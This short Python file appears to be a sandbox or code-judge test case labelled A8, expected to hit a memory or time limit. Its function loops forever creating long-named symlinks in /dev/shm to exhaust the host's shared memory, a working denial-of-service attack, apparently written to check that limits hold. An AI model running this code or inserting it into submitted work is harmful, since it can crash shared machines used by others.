# A8 memory_limit|time_limit: links with long names in shared memory, which has no bound of its own but that of the box
import os


def answer(word):
    made = 0
    os.chdir("/dev/shm")
    while True:
        os.symlink("x" * 100, f"{made:0240}")
        made += 1
